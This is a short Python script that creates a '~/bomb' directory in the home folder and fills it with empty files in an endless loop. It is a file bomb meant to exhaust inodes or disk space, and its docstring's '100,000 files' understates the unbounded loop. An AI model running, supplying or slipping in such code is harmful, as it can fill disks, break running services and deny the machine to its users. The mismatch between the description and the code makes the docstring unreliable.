"""Make 100,000 files and go on."""

import os

os.makedirs(os.path.expanduser("~/bomb"), exist_ok=True)
number = 0
while True:
    number += 1
    with open(os.path.expanduser(f"~/bomb/{number}"), "w"):
        pass
